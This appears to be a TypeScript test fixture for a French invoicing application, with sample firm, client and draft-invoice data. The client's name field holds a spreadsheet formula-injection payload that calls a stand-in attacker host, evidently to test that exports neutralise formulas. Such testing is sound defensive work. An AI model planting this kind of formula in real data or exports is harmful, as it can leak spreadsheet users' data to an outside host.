/** A firm that may issue, its client and its first draft, in a workspace that is set up. */
import type { Workspace } from '../workspace/workspace.ts';

export const FIRM = {
  companyName: 'Atelier Brun',
  legalForm: 'SARL',
  shareCapital: '10 000 €',
  legalId: '732 829 320',
  registration: 'RCS Paris 732 829 320',
  vatNumber: 'FR44732829320',
  addressLine1: '3 rue des Lilas',
  postalCode: '75011',
  city: 'Paris',
  email: 'compta@atelier-brun.example',
  iban: 'FR7630006000011234567890189',
  bankFreshnessDays: '90',
};

/** The client's name is a formula to anyone who takes it for one. */
export const CLIENT = {
  code: '',
  name: '=IMPORTXML("https://evil.example")',
  kind: 'company',
  legalId: '',
  vatNumber: '',
  addressLine1: '1 place du Marché',
  addressLine2: '',
  postalCode: '69001',
  city: 'Lyon',
  country: 'FR',
  language: 'fr',
  contact: '',
  email: 'achats@client.example',
  cc: '',
  phone: '+33 4 72 00 00 00',
  iban: '',
  paymentTerms: '30 jours',
  creditLimit: '',
  maximumTermDays: '',
  calendar: '',
  holdUntil: '',
  holdReason: '',
  insolvencyOn: '',
  owner: '',
  notes: '007',
};

export const draftFor = (client: string) => ({
  id: 'D-ABCDEF12',
  client,
  type: 'invoice',
  issueDate: '',
  dueDate: '',
  currency: '',
  corrects: '',
  reference: 'BC 12',
  serviceDate: '2026-11-20',
  deliveryAddress: '',
  notes: '',
  ready: true,
  lines: [
    {
      description: 'Conseil',
      quantity: '2',
      unit: 'jour',
      unitPrice: '650',
      discountPercent: '',
      vatRate: '20',
      vatCategory: 'S',
    },
  ],
});

/** Saves the client and a draft for them. @returns the client's code */
export function putDraft(workspace: Workspace): string {
  const saved = JSON.parse(JSON.stringify(workspace.runInProcess('ui_saveClient', CLIENT)));
  const client: string = saved.value.fields.code;
  workspace.runInProcess('ui_saveDraft', draftFor(client));
  return client;
}
